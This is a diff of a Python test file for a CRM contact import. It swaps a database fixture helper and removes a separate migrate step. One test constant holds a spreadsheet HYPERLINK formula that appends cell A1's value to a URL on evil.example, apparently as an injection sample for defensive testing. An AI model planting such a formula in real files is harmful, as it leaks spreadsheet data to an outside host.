@@ -17,7 +17,7 @@ from core.models import User
 from crm.models import Contact, FileImport, ImportBatch
 from tests.core.tabular.test_workbooks import HEADER, repacked, workbook
 from tests.crm.files import counts, import_file
-from tests.installation import ROOT, Installation, scratch_database
+from tests.installation import ROOT, Installation, migrated_database
 
 LogIn = Callable[..., Client]
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Ada")'
@@ -152,9 +152,8 @@ def test_line_of_a_gigabyte_is_refused_in_little_memory(tmp_path: Path) -> None:
         file.write(b"Name,E-mail\n")
         for _piece in range(LONG_LINE // 1_000_000):
             file.write(b"x" * 1_000_000)
-    with scratch_database(tmp_path) as database:
+    with migrated_database(tmp_path) as database:
         installation = Installation(tmp_path, database, "")
-        installation.call("manage.py", "migrate", "--verbosity", "0")
         installation.call("-c", MAKE_ADMINISTRATOR)
         done = subprocess.run(
             [sys.executable, "-c", COMMAND, str(path)],
